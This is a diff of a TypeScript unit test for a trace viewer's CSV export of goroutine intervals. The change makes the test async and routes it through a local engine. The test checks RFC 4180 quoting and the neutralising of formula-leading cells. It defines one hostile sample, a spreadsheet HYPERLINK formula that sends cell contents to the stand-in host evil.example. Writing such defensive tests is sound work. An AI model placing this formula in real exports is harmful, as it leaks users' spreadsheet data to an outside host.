@@ -1,10 +1,11 @@
-// The CSV export of goroutine intervals, on a trace whose function names and wait reasons were
-// crafted to break the CSV or to run as spreadsheet formulas.
+// The CSV export of goroutine intervals (the page asks the engine's intervalsCsv through
+// exports.ts), on a trace whose function names and wait reasons were crafted to break the CSV or
+// to run as spreadsheet formulas.
 
 import { describe, expect, it } from 'vitest';
-import { traceOf } from '../analysis/testTrace';
-import { DEFAULT_LANES } from '../analysis/timelineRows';
-import type { SessionState } from '../store/session';
+import { decodedTrace, traceOf } from '../analysis/testTrace';
+import { LocalEngine } from '../engine/local';
+import { DEFAULT_LANES, type SessionState } from '../store/session';
 import { intervalsAsCsv } from './exports';
 
 const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")';
@@ -26,8 +27,10 @@ const session = {
 } as unknown as SessionState;
 
 describe('intervals as CSV', () => {
-  it('quotes per RFC 4180 and neutralises formula-leading cells', () => {
-    const csv = intervalsAsCsv(session);
+  it('quotes per RFC 4180 and neutralises formula-leading cells', async () => {
+    const engine = new LocalEngine();
+    engine.addFile('t', decodedTrace(m));
+    const csv = await intervalsAsCsv(session, engine);
     expect(csv?.rows).toBe(3);
     // Records end with CRLF; the CRLF inside the quoted reason is part of the field.
     expect(csv?.text).toBe(
